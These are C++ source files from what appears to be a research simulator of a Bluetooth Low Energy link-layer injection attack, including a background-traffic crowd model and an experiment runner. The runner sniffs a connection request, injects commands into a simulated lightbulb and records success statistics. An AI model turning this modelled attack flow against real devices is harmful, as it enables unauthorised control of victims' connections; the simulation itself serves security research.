    m_cfg.position = master_pos;
    master_ = std::make_unique<Node>(scheduler, medium, rng.fork(), std::move(m_cfg));

    sim::RadioDeviceConfig s_cfg;
    s_cfg.name = "crowd-slave-" + std::to_string(index);
    s_cfg.position = slave_pos;
    slave_ = std::make_unique<Node>(scheduler, medium, rng.fork(), std::move(s_cfg));

    // Seeded anchor phase: coexisting connections are mutually unaligned.
    const auto interval = static_cast<std::uint64_t>(connection_interval(hop_interval_));
    timer_ = scheduler_.schedule_after(static_cast<Duration>(rng.next_below(interval)),
                                       [this] { connection_event(); });
}

void CrowdConnection::connection_event() {
    const sim::Channel channel = selector_.channel_for_event(event_counter_++);
    // The slave opens its window, the master anchors, and the slave answers
    // T_IFS after the master's frame ends — scheduled, not rx-triggered, so
    // the cadence survives collisions (crowd links need no supervision).
    slave_->listen(channel);
    if (!master_->transmitting()) (void)master_->transmit(channel, master_frame_);
    reply_timer_ = scheduler_.schedule_after(
        master_frame_.duration() + kTifs, [this, channel] {
            if (!slave_->transmitting()) (void)slave_->transmit(channel, slave_frame_);
        });
    timer_ = scheduler_.schedule_after(connection_interval(hop_interval_),
                                       [this] { connection_event(); });
}

// --- build_crowd ---

std::unique_ptr<Crowd> build_crowd(sim::Scheduler& scheduler, sim::RadioMedium& medium,
                                   Rng crowd_rng, const DenseEnvironment& env) {
    auto crowd = std::make_unique<Crowd>();
    Rng rng = crowd_rng;

    crowd->advertisers.reserve(static_cast<std::size_t>(env.advertisers));
    for (int i = 0; i < env.advertisers; ++i) {
        sim::RadioDeviceConfig cfg;
        cfg.name = "crowd-adv-" + std::to_string(i);
        cfg.position = draw_position(rng, env.area_radius_m);
        crowd->advertisers.push_back(std::make_unique<CrowdAdvertiser>(
            scheduler, medium, rng.fork(), std::move(cfg), env.adv_interval));
    }

    crowd->scanners.reserve(static_cast<std::size_t>(env.scanners));
    for (int i = 0; i < env.scanners; ++i) {
        sim::RadioDeviceConfig cfg;
        cfg.name = "crowd-scan-" + std::to_string(i);
        cfg.position = draw_position(rng, env.area_radius_m);
        crowd->scanners.push_back(std::make_unique<CrowdScanner>(
            scheduler, medium, rng.fork(), std::move(cfg)));
    }

    crowd->connections.reserve(static_cast<std::size_t>(env.connections));
    for (int i = 0; i < env.connections; ++i) {
        const sim::Position master_pos = draw_position(rng, env.area_radius_m);
        // The slave sits within ~2 m of its master, like a wearable or
        // peripheral next to the phone driving it.
        const sim::Position offset = draw_position(rng, 2.0);
        const sim::Position slave_pos{master_pos.x + offset.x, master_pos.y + offset.y};
        crowd->connections.push_back(std::make_unique<CrowdConnection>(
            scheduler, medium, rng.fork(), env, i, master_pos, slave_pos));
    }
    return crowd;
}

}  // namespace injectable::world
