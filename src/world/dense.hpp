// Dense-environment crowd: the background BLE population of a crowded
// spectrum (ROADMAP: "hundreds of advertisers, scanners and coexisting
// connections").
//
// Crowd devices are *traffic generators*, not protocol peers: their frames
// carry real access addresses and CRCs, so victim and attacker radios
// receive, parse and discard them exactly like real hardware ignoring a
// neighbour's packets — but they contend for the medium (they capture idle
// receivers, corrupt overlapping bytes, and occupy advertising channels),
// which is precisely the interference regime the paper's injection race is
// sensitive to.
//
// Determinism: the whole crowd is built from one RNG forked off the world
// root *after* the baseline devices (medium, peripheral, central, attacker),
// so a spec with an empty DenseEnvironment draws the exact byte-identical
// stream the paper-baseline campaigns always drew.  Within the crowd,
// construction order is fixed (advertisers, scanners, connections, each in
// index order) and every timer phase, position, hop interval and access
// address is a seeded draw.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "common/rng.hpp"
#include "common/time.hpp"
#include "link/channel_selection.hpp"
#include "sim/radio_device.hpp"

namespace injectable::world {

/// Declarative description of the background population.  Empty (all zero)
/// by default: the paper-baseline world has no crowd.
struct DenseEnvironment {
    int advertisers = 0;  ///< ADV_NONCONN beacons rotating over 37/38/39
    int scanners = 0;     ///< passive scanners rotating their listen channel
    int connections = 0;  ///< coexisting master/slave pairs hopping with CSA#1
    /// Crowd devices are placed uniformly in a disc of this radius around
    /// the victims.
    double area_radius_m = 10.0;
    /// Advertising interval; each advertiser also draws the spec's 0..10 ms
    /// pseudo-random advDelay per event.
    ble::Duration adv_interval = ble::milliseconds(100);
    /// Coexisting connections draw their hop interval (1.25 ms units)
    /// uniformly from [min, max] and their CSA#1 hop increment from [5, 16].
    std::uint16_t min_hop_interval = 24;
    std::uint16_t max_hop_interval = 48;

    [[nodiscard]] bool empty() const noexcept {
        return advertisers == 0 && scanners == 0 && connections == 0;
    }
    /// Radios the crowd adds to the world (a connection is two).
    [[nodiscard]] int device_count() const noexcept {
        return advertisers + scanners + 2 * connections;
    }
    /// The same mix at `factor` times the population (rounded down, floor 0)
    /// — the density-sweep knob.
    [[nodiscard]] DenseEnvironment scaled(double factor) const;
};

/// A transmit-only beacon: one ADV_NONCONN_IND per advertising event,
/// rotating over the three advertising channels, with the spec's seeded
/// 0..10 ms advDelay on top of the fixed interval.
class CrowdAdvertiser final : public ble::sim::RadioDevice {
public:
    CrowdAdvertiser(ble::sim::Scheduler& scheduler, ble::sim::RadioMedium& medium,
                    ble::Rng rng, ble::sim::RadioDeviceConfig config,
                    ble::Duration adv_interval);
    ~CrowdAdvertiser() override { scheduler().cancel(timer_); }

    void on_rx(const ble::sim::RxFrame&) override {}  // never listens

private:
    void advertise();

    ble::Duration adv_interval_;
    ble::sim::AirFrame frame_;  ///< the beacon payload, built once
    int channel_index_ = 0;
    ble::sim::EventId timer_ = ble::sim::kInvalidEvent;
};

/// A passive scanner: rotates its listen channel over 37/38/39 every scan
/// window.  Scanners never transmit — their load is on the interest lists
/// (every advertising transmission must consider them as lock candidates).
class CrowdScanner final : public ble::sim::RadioDevice {
public:
    CrowdScanner(ble::sim::Scheduler& scheduler, ble::sim::RadioMedium& medium,
                 ble::Rng rng, ble::sim::RadioDeviceConfig config,
                 ble::Duration scan_window = ble::milliseconds(10));
    ~CrowdScanner() override { scheduler().cancel(timer_); }

    void on_rx(const ble::sim::RxFrame&) override {}  // receive-and-discard

private:
    void rotate();

    ble::Duration scan_window_;
    int channel_index_ = 0;
    ble::sim::EventId timer_ = ble::sim::kInvalidEvent;
};

/// A coexisting connection: a master/slave radio pair hopping over the data
/// channels with CSA#1 (seeded hop increment and interval, random access
/// address and CRC init, seeded anchor phase).  Each connection event the
/// slave opens its window, the master transmits one small data PDU, and the
/// slave answers T_IFS after it — enough traffic shape to collide with
/// victim connection events on shared channels without any host stack.
class CrowdConnection final {
public:
    CrowdConnection(ble::sim::Scheduler& scheduler, ble::sim::RadioMedium& medium,
                    ble::Rng rng, const DenseEnvironment& env, int index,
                    ble::sim::Position master_pos, ble::sim::Position slave_pos);
    ~CrowdConnection() {
        scheduler_.cancel(timer_);
        scheduler_.cancel(reply_timer_);
    }

    [[nodiscard]] std::uint16_t hop_interval() const noexcept { return hop_interval_; }
    [[nodiscard]] std::uint32_t access_address() const noexcept { return access_address_; }

private:
    /// Minimal radio: all protocol behaviour lives in CrowdConnection.
    class Node final : public ble::sim::RadioDevice {
    public:
        using RadioDevice::RadioDevice;
        void on_rx(const ble::sim::RxFrame&) override {}
    };

    void connection_event();

    ble::sim::Scheduler& scheduler_;
    std::uint16_t hop_interval_ = 36;
    std::uint32_t access_address_ = 0;
    std::uint32_t crc_init_ = 0;
    std::uint16_t event_counter_ = 0;
    ble::link::Csa1 selector_;
    ble::sim::AirFrame master_frame_;
    ble::sim::AirFrame slave_frame_;
    std::unique_ptr<Node> master_;
    std::unique_ptr<Node> slave_;
    ble::sim::EventId timer_ = ble::sim::kInvalidEvent;
    ble::sim::EventId reply_timer_ = ble::sim::kInvalidEvent;
};

/// The built population; owned by World, torn down with it.
struct Crowd {
    std::vector<std::unique_ptr<CrowdAdvertiser>> advertisers;
    std::vector<std::unique_ptr<CrowdScanner>> scanners;
    std::vector<std::unique_ptr<CrowdConnection>> connections;

    [[nodiscard]] std::size_t device_count() const noexcept {
        return advertisers.size() + scanners.size() + 2 * connections.size();
    }
};

/// Builds the crowd from `crowd_rng` (fork it off the world root after every
/// baseline device so the baseline stream stays untouched).  Timers are
/// armed immediately; they fire once the caller runs the scheduler.
[[nodiscard]] std::unique_ptr<Crowd> build_crowd(ble::sim::Scheduler& scheduler,
                                                 ble::sim::RadioMedium& medium,
                                                 ble::Rng crowd_rng,
                                                 const DenseEnvironment& env);

}  // namespace injectable::world
