#include "world/experiment.hpp"

#include <chrono>
#include <cmath>
#include <cstdlib>
#include <sstream>

#include "core/forge.hpp"

namespace injectable::world {

using namespace ble;

RunResult run_injection_experiment(const ExperimentConfig& config, std::uint64_t seed) {
    RunResult result;
    result.seed = seed;
    World w(config.world, seed);

    // Phase 1: sniff the CONNECT_REQ while the connection establishes.
    w.establish_and_sniff(10_s);
    result.established = w.central->connected() && w.peripheral->connected();
    result.sniffed = w.sniffed.has_value();
    if (!result.established || !result.sniffed) return result;

    if (config.world.encrypt_link && !w.encrypt()) return result;  // setup failure

    // Background host traffic (GATT reads/writes) so master frames carry
    // real payloads instead of empty polls, like the paper's testbed.
    w.start_traffic();

    // Phase 2: synchronise and inject.
    w.session = std::make_unique<AttackSession>(*w.attacker, *w.sniffed, config.world.attack);
    AttackSession& session = *w.session;
    session.on_connection_lost = [&result] { result.session_lost = true; };
    w.peripheral->on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    w.central->on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    session.start();
    w.scheduler.run_until(w.scheduler.now() +
                          8 * connection_interval(config.world.hop_interval));

    Bytes payload;
    if (config.payload_override) {
        payload = *config.payload_override;
    } else if (config.ll_payload_size >= 11) {
        // Observable frame: a Write Command driving the bulb, padded to the
        // requested LL payload size — gives ground truth for the heuristic.
        const std::size_t pad = config.ll_payload_size - 11;
        payload = att_over_l2cap(att::make_write_cmd(
            w.bulb.control_handle(),
            gatt::LightbulbProfile::cmd_set_color(
                static_cast<std::uint8_t>(w.rng.next_below(256)),
                static_cast<std::uint8_t>(w.rng.next_below(256)),
                static_cast<std::uint8_t>(w.rng.next_below(256)), pad)));
    } else {
        // Too short for an ATT request: raw LL data (still exercises the
        // full race + heuristic; the slave LL-acks and the host discards).
        payload.resize(config.ll_payload_size);
        for (auto& b : payload) b = static_cast<std::uint8_t>(w.rng.next_below(256));
    }

    const bool observable = !config.payload_override && config.ll_payload_size >= 11;
    int commands_seen = w.bulb.state().commands_received;
    session.on_attempt = [&](const AttemptReport& report) {
        result.attempts = report.attempt;  // progress even if the budget cuts us off
        if (config.on_attempt_hook) config.on_attempt_hook(report);
        if (!observable) return;
        const bool accepted = w.bulb.state().commands_received > commands_seen;
        commands_seen = w.bulb.state().commands_received;
        if (report.verdict.success() && !accepted) ++result.heuristic_false_positives;
        if (!report.verdict.success() && accepted) ++result.heuristic_false_negatives;
    };

    std::optional<bool> outcome;
    AttackSession::InjectionRequest request;
    request.llid = config.llid;
    request.payload = payload;
    request.max_attempts = config.max_attempts;
    request.done = [&](bool ok, int attempts) {
        outcome = ok;
        result.attempts = attempts;
    };
    session.inject(std::move(request));

    // Worst case: ~2 events per attempt plus resync overhead.
    const Duration budget = connection_interval(config.world.hop_interval) *
                            (4 * config.max_attempts + 64);
    w.run_until(budget, [&] { return outcome.has_value(); });
    w.stop_traffic();
    result.success = outcome.value_or(false);
    return result;
}

RunResult run_injection_experiment_with_retry(const ExperimentConfig& config,
                                              std::uint64_t seed, int tries) {
    RunResult result;
    for (int t = 0; t < tries; ++t) {
        result = run_injection_experiment(config, seed + 7919u * static_cast<std::uint64_t>(t));
        // A missed CONNECT_REQ or failed pairing is an experiment-setup
        // failure, not an attack outcome: the paper's operator re-runs the
        // connection. Attack failures (lost sync, exhausted attempts) stand.
        if (result.established && result.sniffed) break;
    }
    result.seed = seed;  // the reproducing seed is the trial's base seed
    return result;
}

std::vector<RunResult> run_series(const ExperimentConfig& config) {
    int runs = config.runs;
    // INJECTABLE_RUNS overrides the paper's 25 runs/configuration (e.g. for
    // smoother statistics or a quicker smoke pass).
    if (const char* env = std::getenv("INJECTABLE_RUNS")) {
        const int parsed = std::atoi(env);
        if (parsed > 0) runs = parsed;
    }
    TrialRunner runner;
    auto results = runner.map(runs, [&config](int i) {
        const auto t0 = std::chrono::steady_clock::now();
        RunResult result = run_injection_experiment_with_retry(
            config, config.base_seed + static_cast<std::uint64_t>(i), 3);
        result.wall_ms =
            std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0)
                .count();
        return result;
    });
    if (const char* path = std::getenv("INJECTABLE_JSON")) {
        if (FILE* f = std::fopen(path, "a")) {
            const std::string line = to_json(config, results);
            std::fwrite(line.data(), 1, line.size(), f);
            std::fputc('\n', f);
            std::fclose(f);
        }
    }
    return results;
}

std::string to_json(const ExperimentConfig& config, const std::vector<RunResult>& results) {
    std::ostringstream os;
    os << "{\"experiment\":\"" << config.name << "\",\"base_seed\":" << config.base_seed
       << ",\"runs\":" << results.size() << ",\"jobs\":" << resolve_jobs()
       << ",\"hop_interval\":" << config.world.hop_interval << ",\"trials\":[";
    for (std::size_t i = 0; i < results.size(); ++i) {
        const RunResult& r = results[i];
        if (i) os << ',';
        os << "{\"seed\":" << r.seed << ",\"success\":" << (r.success ? "true" : "false")
           << ",\"attempts\":" << r.attempts
           << ",\"established\":" << (r.established ? "true" : "false")
           << ",\"sniffed\":" << (r.sniffed ? "true" : "false")
           << ",\"session_lost\":" << (r.session_lost ? "true" : "false")
           << ",\"victim_disconnected\":" << (r.victim_disconnected ? "true" : "false")
           << ",\"heuristic_fp\":" << r.heuristic_false_positives
           << ",\"heuristic_fn\":" << r.heuristic_false_negatives << ",\"wall_ms\":"
           << r.wall_ms << "}";
    }
    os << "]}";
    return os.str();
}

Stats summarize(const std::vector<RunResult>& results) {
    Stats stats;
    std::vector<double> attempts;
    for (const auto& r : results) {
        ++stats.n;
        if (r.success) {
            ++stats.successes;
            attempts.push_back(static_cast<double>(r.attempts));
        }
    }
    if (attempts.empty()) return stats;
    std::sort(attempts.begin(), attempts.end());
    auto quantile = [&](double q) {
        const double idx = q * static_cast<double>(attempts.size() - 1);
        const auto lo = static_cast<std::size_t>(idx);
        const std::size_t hi = std::min(lo + 1, attempts.size() - 1);
        const double frac = idx - static_cast<double>(lo);
        return attempts[lo] * (1.0 - frac) + attempts[hi] * frac;
    };
    stats.min = attempts.front();
    stats.q1 = quantile(0.25);
    stats.median = quantile(0.5);
    stats.q3 = quantile(0.75);
    stats.max = attempts.back();
    double sum = 0;
    for (double a : attempts) sum += a;
    stats.mean = sum / static_cast<double>(attempts.size());
    return stats;
}

void print_stats_header(const std::string& variable) {
    std::printf("%-18s %8s %6s %6s %7s %6s %6s %7s\n", variable.c_str(), "success",
                "min", "Q1", "median", "Q3", "max", "mean");
}

void print_stats_row(const std::string& label, const Stats& stats) {
    std::printf("%-18s %5d/%-2d %6.0f %6.1f %7.1f %6.1f %6.0f %7.2f\n", label.c_str(),
                stats.successes, stats.n, stats.min, stats.q1, stats.median, stats.q3,
                stats.max, stats.mean);
}

}  // namespace injectable::world
