#include "world/experiment.hpp"

#include <chrono>
#include <cmath>
#include <cstdlib>
#include <memory>
#include <mutex>
#include <sstream>

#include "core/forge.hpp"
#include "link/trace.hpp"
#include "obs/metrics.hpp"
#include "obs/prof/profiler.hpp"
#include "obs/sinks.hpp"
#include "obs/timeline.hpp"
#include "world/replay.hpp"

namespace injectable::world {

using namespace ble;

namespace {
/// Guards INJECTABLE_JSON appends: run_series() may execute concurrently
/// (nested sweeps, tests), and each series must land as one intact line.
std::mutex g_json_mutex;

}  // namespace

std::string sanitize_experiment_name(const std::string& name) {
    std::string out = name;
    for (char& c : out) {
        const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                        (c >= '0' && c <= '9') || c == '-' || c == '_' || c == '.';
        if (!ok) c = '-';
    }
    if (out.empty()) out = "experiment";
    return out;
}

RunResult run_injection_experiment(const ExperimentConfig& config, std::uint64_t seed) {
    RunResult result;
    result.seed = seed;
    World w(config.world, seed);
    if (config.per_trial_sinks) config.per_trial_sinks(w.bus(), seed);
    w.emit_phase("trial-start");

    // Legacy per-attempt hook, now a bus subscription (kept for the benches'
    // outcome analysis; destroyed before `w`, so it cannot dangle).
    obs::ScopedSubscription hook_sub;
    if (config.on_attempt_hook) {
        hook_sub = obs::ScopedSubscription(w.bus(), [&config](const obs::Event& event) {
            const auto* a = std::get_if<obs::InjectionAttempt>(&event);
            if (a != nullptr && a->report != nullptr) config.on_attempt_hook(*a->report);
        });
    }

    // Phase 1: sniff the CONNECT_REQ while the connection establishes.
    w.establish_and_sniff(10_s);
    result.established = w.central->connected() && w.peripheral->connected();
    result.sniffed = w.sniffed.has_value();
    if (!result.established || !result.sniffed) return result;

    if (config.world.encrypt_link && !w.encrypt()) return result;  // setup failure

    // Background host traffic (GATT reads/writes) so master frames carry
    // real payloads instead of empty polls, like the paper's testbed.
    w.start_traffic();

    // Phase 2: synchronise and inject.
    w.session = std::make_unique<AttackSession>(*w.attacker, *w.sniffed, config.world.attack);
    AttackSession& session = *w.session;
    session.on_connection_lost = [&result] { result.session_lost = true; };
    w.peripheral->on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    w.central->on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    session.start();
    w.scheduler.run_until(w.scheduler.now() +
                          8 * connection_interval(config.world.hop_interval));

    Bytes payload;
    if (config.payload_override) {
        payload = *config.payload_override;
    } else if (config.ll_payload_size >= 11) {
        // Observable frame: a Write Command driving the bulb, padded to the
        // requested LL payload size — gives ground truth for the heuristic.
        const std::size_t pad = config.ll_payload_size - 11;
        payload = att_over_l2cap(att::make_write_cmd(
            w.bulb.control_handle(),
            gatt::LightbulbProfile::cmd_set_color(
                static_cast<std::uint8_t>(w.rng.next_below(256)),
                static_cast<std::uint8_t>(w.rng.next_below(256)),
                static_cast<std::uint8_t>(w.rng.next_below(256)), pad)));
    } else {
        // Too short for an ATT request: raw LL data (still exercises the
        // full race + heuristic; the slave LL-acks and the host discards).
        payload.resize(config.ll_payload_size);
        for (auto& b : payload) b = static_cast<std::uint8_t>(w.rng.next_below(256));
    }

    const bool observable = !config.payload_override && config.ll_payload_size >= 11;
    int commands_seen = w.bulb.state().commands_received;
    session.on_attempt = [&](const AttemptReport& report) {
        result.attempts = report.attempt;  // progress even if the budget cuts us off
        bool accepted = false;
        if (observable) {
            accepted = w.bulb.state().commands_received > commands_seen;
            commands_seen = w.bulb.state().commands_received;
            if (report.verdict.success() && !accepted) ++result.heuristic_false_positives;
            if (!report.verdict.success() && accepted) ++result.heuristic_false_negatives;
        }
        if (w.bus().active()) {
            obs::InjectionAttempt event;
            event.time = w.scheduler.now();
            event.attempt = report.attempt;
            event.event_counter = report.event_counter;
            event.channel = report.channel;
            event.heuristic_success = report.verdict.success();
            event.ground_truth_known = observable;
            event.accepted_by_slave = accepted;
            event.report = &report;
            w.bus().emit(event);
        }
    };

    std::optional<bool> outcome;
    AttackSession::InjectionRequest request;
    request.llid = config.llid;
    request.payload = payload;
    request.max_attempts = config.max_attempts;
    request.done = [&](bool ok, int attempts) {
        outcome = ok;
        result.attempts = attempts;
    };
    w.emit_phase("inject");
    session.inject(std::move(request));

    // Worst case: ~2 events per attempt plus resync overhead.
    const Duration budget = connection_interval(config.world.hop_interval) *
                            (4 * config.max_attempts + 64);
    w.run_until(budget, [&] { return outcome.has_value(); });
    w.stop_traffic();
    result.success = outcome.value_or(false);
    char done_detail[48];
    std::snprintf(done_detail, sizeof(done_detail), "success=%d attempts=%d",
                  result.success ? 1 : 0, result.attempts);
    w.emit_phase("done", done_detail);
    return result;
}

RunResult run_injection_experiment_with_retry(const ExperimentConfig& config,
                                              std::uint64_t seed, int tries) {
    RunResult result;
    for (int t = 0; t < tries; ++t) {
        result = run_injection_experiment(config, seed + 7919u * static_cast<std::uint64_t>(t));
        // A missed CONNECT_REQ or failed pairing is an experiment-setup
        // failure, not an attack outcome: the paper's operator re-runs the
        // connection. Attack failures (lost sync, exhausted attempts) stand.
        if (result.established && result.sniffed) break;
    }
    result.seed = seed;  // the reproducing seed is the trial's base seed
    return result;
}

std::vector<RunResult> run_series(const ExperimentConfig& config) {
    int runs = config.runs;
    // INJECTABLE_RUNS overrides the paper's 25 runs/configuration (e.g. for
    // smoother statistics or a quicker smoke pass).
    if (const char* env = std::getenv("INJECTABLE_RUNS")) {
        const int parsed = std::atoi(env);
        if (parsed > 0) runs = parsed;
    }
    // INJECTABLE_TRACE_DIR streams a replayable JSONL event trace per failed
    // trial (INJECTABLE_TRACE_ALL=1 keeps the successes too), keyed by the
    // trial's reproducing seed, next to the INJECTABLE_JSON records.
    // INJECTABLE_TRACE_COMPRESS=1 gzips the traces (no-op without zlib).
    const char* trace_dir = std::getenv("INJECTABLE_TRACE_DIR");
    const bool trace_all = std::getenv("INJECTABLE_TRACE_ALL") != nullptr;
    const bool trace_gzip = std::getenv("INJECTABLE_TRACE_COMPRESS") != nullptr &&
                            obs::trace_compression_available();
    // INJECTABLE_CHROME_TRACE_DIR writes a chrome://tracing-loadable timeline
    // per trial; INJECTABLE_METRICS=1 prints the merged metrics summary.
    const char* chrome_dir = std::getenv("INJECTABLE_CHROME_TRACE_DIR");
    const char* json_path = std::getenv("INJECTABLE_JSON");
    const bool metrics_print = std::getenv("INJECTABLE_METRICS") != nullptr;
    const bool want_metrics =
        json_path != nullptr || metrics_print || static_cast<bool>(config.on_series_metrics);
    // INJECTABLE_PROF=1 installs the per-trial self-profiler (src/obs/prof);
    // its sim-time prof.* series land in the merged metrics snapshot above.
    // INJECTABLE_PROF_WALL=1 adds wall-clock span timing whose only output is
    // a per-trial stderr table (non-deterministic, never recorded).
    const bool want_prof = config.profile_spans || std::getenv("INJECTABLE_PROF") != nullptr;
    const bool prof_wall = std::getenv("INJECTABLE_PROF_WALL") != nullptr;

    // Per-trial metric snapshots, stored by index like the results: merging
    // them 0..runs-1 afterwards is deterministic for any worker count.
    std::vector<obs::MetricsSnapshot> metric_snapshots(
        want_metrics ? static_cast<std::size_t>(runs) : 0);

    TrialRunner runner(config.jobs);
    runner.set_progress_label(config.name);
    auto results = runner.map(runs, [&](int i) {
        // RunResult::wall_ms is documented non-deterministic and excluded
        // from every comparison, so the host clock is fine here.
        // injectable-lint: allow(D2) -- measures host wall-clock cost only
        const auto t0 = std::chrono::steady_clock::now();
        const auto base_seed = config.base_seed + static_cast<std::uint64_t>(i);

        const ExperimentConfig* trial_config = &config;
        ExperimentConfig instrumented_config;
        std::shared_ptr<obs::JsonlTraceSink> trace;
        std::shared_ptr<obs::MetricsRegistry> registry;
        std::shared_ptr<obs::MetricsSink> metrics;
        std::shared_ptr<obs::ChannelOccupancySink> occupancy;
        if (trace_dir != nullptr || chrome_dir != nullptr || want_metrics) {
            instrumented_config = config;
            // Each setup retry builds a fresh world (and bus): restart every
            // sink so they hold exactly the surviving world's events.
            instrumented_config.per_trial_sinks = [&](obs::EventBus& bus, std::uint64_t seed) {
                if (trace_dir != nullptr) {
                    trace = std::make_shared<obs::JsonlTraceSink>(link::describe_frame);
                    trace->set_header(experiment_meta_json(config, base_seed, kSetupRetries));
                    bus.attach(*trace);
                }
                if (want_metrics) {
                    registry = std::make_shared<obs::MetricsRegistry>();
                    metrics = std::make_shared<obs::MetricsSink>(*registry);
                    bus.attach(*metrics);
                }
                if (chrome_dir != nullptr) {
                    occupancy = std::make_shared<obs::ChannelOccupancySink>();
                    bus.attach(*occupancy);
                }
                if (config.per_trial_sinks) config.per_trial_sinks(bus, seed);
            };
            trial_config = &instrumented_config;
        }

        std::unique_ptr<obs::prof::Profiler> profiler;
        if (want_prof) {
            obs::prof::ProfilerParams params;
            params.wall_clock = prof_wall;
            params.chrome_trace = chrome_dir != nullptr;
            profiler = std::make_unique<obs::prof::Profiler>(params);
        }
        RunResult result;
        {
            // Install covers the whole trial (all setup retries) on this
            // worker thread; a null profiler makes every span a no-op.
            const obs::prof::Install install(profiler.get());
            result = run_injection_experiment_with_retry(*trial_config, base_seed, kSetupRetries);
        }
        result.wall_ms =
            // injectable-lint: allow(D2) -- host wall-clock cost, see above.
            std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0)
                .count();
        if (metrics) {
            metrics->finalize();
            if (profiler) profiler->export_metrics(*registry);
            metric_snapshots[static_cast<std::size_t>(i)] = registry->snapshot();
        }
        const std::string stem = sanitize_experiment_name(config.name) + "-seed" +
                                 std::to_string(result.seed);
        if (trace && (trace_all || !result.success)) {
            const std::string path = std::string(trace_dir) + "/" + stem + ".jsonl" +
                                     (trace_gzip ? ".gz" : "");
            trace->write_file(path, trace_gzip);
        }
        if (occupancy) {
            occupancy->write_chrome_trace(std::string(chrome_dir) + "/" + stem +
                                          ".trace.json");
        }
        if (profiler != nullptr && chrome_dir != nullptr) {
            profiler->write_chrome_trace(std::string(chrome_dir) + "/" + stem +
                                         ".prof.trace.json");
        }
        if (profiler != nullptr && prof_wall) {
            const std::string summary = profiler->wall_summary();
            std::fprintf(stderr, "[injectable] %s seed %llu %s", stem.c_str(),
                         static_cast<unsigned long long>(result.seed), summary.c_str());
        }
        return result;
    });

    obs::MetricsSnapshot series_metrics;
    if (want_metrics) {
        for (const auto& snapshot : metric_snapshots) series_metrics.merge(snapshot);
        if (config.on_series_metrics) config.on_series_metrics(series_metrics);
        if (metrics_print) obs::print_metrics_summary(series_metrics, config.name);
    }
    if (json_path != nullptr) {
        std::string line = to_json(config, results, want_metrics ? &series_metrics : nullptr);
        line.push_back('\n');
        const std::lock_guard lock(g_json_mutex);
        if (FILE* f = std::fopen(json_path, "a")) {
            std::fwrite(line.data(), 1, line.size(), f);
            std::fclose(f);
        }
    }
    return results;
}

std::string to_json(const ExperimentConfig& config, const std::vector<RunResult>& results,
                    const ble::obs::MetricsSnapshot* metrics) {
    std::ostringstream os;
    // Experiment names are free-form (and end up in shared JSONL files):
    // escape them like every other observability string.
    os << "{\"experiment\":\"" << obs::json_escape(config.name)
       << "\",\"base_seed\":" << config.base_seed
       << ",\"runs\":" << results.size() << ",\"jobs\":" << resolve_jobs()
       << ",\"hop_interval\":" << config.world.hop_interval
       // The same self-describing meta object that heads every trace file:
       // lets `trace_replay --from-json` re-run the series from this record
       // alone (config + seed list, no stored traces needed).
       << ",\"meta\":" << experiment_meta_json(config, config.base_seed, kSetupRetries)
       << ",\"trials\":[";
    for (std::size_t i = 0; i < results.size(); ++i) {
        const RunResult& r = results[i];
        if (i) os << ',';
        os << "{\"seed\":" << r.seed << ",\"success\":" << (r.success ? "true" : "false")
           << ",\"attempts\":" << r.attempts
           << ",\"established\":" << (r.established ? "true" : "false")
           << ",\"sniffed\":" << (r.sniffed ? "true" : "false")
           << ",\"session_lost\":" << (r.session_lost ? "true" : "false")
           << ",\"victim_disconnected\":" << (r.victim_disconnected ? "true" : "false")
           << ",\"heuristic_fp\":" << r.heuristic_false_positives
           << ",\"heuristic_fn\":" << r.heuristic_false_negatives << ",\"wall_ms\":"
           << r.wall_ms << "}";
    }
    os << "]";
    if (metrics != nullptr) os << ",\"metrics\":" << metrics->to_json();
    os << "}";
    return os.str();
}

Stats summarize(const std::vector<RunResult>& results) {
    Stats stats;
    std::vector<double> attempts;
    for (const auto& r : results) {
        ++stats.n;
        if (r.success) {
            ++stats.successes;
            attempts.push_back(static_cast<double>(r.attempts));
        }
    }
    if (attempts.empty()) return stats;
    std::sort(attempts.begin(), attempts.end());
    auto quantile = [&](double q) {
        const double idx = q * static_cast<double>(attempts.size() - 1);
        const auto lo = static_cast<std::size_t>(idx);
        const std::size_t hi = std::min(lo + 1, attempts.size() - 1);
        const double frac = idx - static_cast<double>(lo);
        return attempts[lo] * (1.0 - frac) + attempts[hi] * frac;
    };
    stats.min = attempts.front();
    stats.q1 = quantile(0.25);
    stats.median = quantile(0.5);
    stats.q3 = quantile(0.75);
    stats.max = attempts.back();
    double sum = 0;
    // injectable-lint: allow(D3) -- sums `attempts` after the sort above, so the accumulation order (and the FP result) is fixed
    for (double a : attempts) sum += a;
    stats.mean = sum / static_cast<double>(attempts.size());
    return stats;
}

void print_stats_header(const std::string& variable) {
    std::printf("%-18s %8s %6s %6s %7s %6s %6s %7s\n", variable.c_str(), "success",
                "min", "Q1", "median", "Q3", "max", "mean");
}

void print_stats_row(const std::string& label, const Stats& stats) {
    std::printf("%-18s %5d/%-2d %6.0f %6.1f %7.1f %6.1f %6.0f %7.2f\n", label.c_str(),
                stats.successes, stats.n, stats.min, stats.q1, stats.median, stats.q3,
                stats.max, stats.mean);
}

}  // namespace injectable::world
