#include "world/experiment.hpp"

#include <chrono>
#include <cmath>
#include <memory>
#include <sstream>

#include "core/forge.hpp"
#include "link/trace.hpp"
#include "obs/capture/capture.hpp"
#include "obs/metrics.hpp"
#include "obs/prof/profiler.hpp"
#include "obs/sinks.hpp"
#include "obs/timeline.hpp"
#include "world/replay.hpp"

namespace injectable::world {

using namespace ble;

std::string sanitize_experiment_name(const std::string& name) {
    std::string out = name;
    for (char& c : out) {
        const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                        (c >= '0' && c <= '9') || c == '-' || c == '_' || c == '.';
        if (!ok) c = '-';
    }
    if (out.empty()) out = "experiment";
    return out;
}

RunResult run_injection_experiment(const ExperimentConfig& config, std::uint64_t seed) {
    RunResult result;
    result.seed = seed;
    World w(config.world, seed);
    if (config.per_trial_sinks) config.per_trial_sinks(w.bus(), seed);
    w.emit_phase("trial-start");

    // Legacy per-attempt hook, now a bus subscription (kept for the benches'
    // outcome analysis; destroyed before `w`, so it cannot dangle).
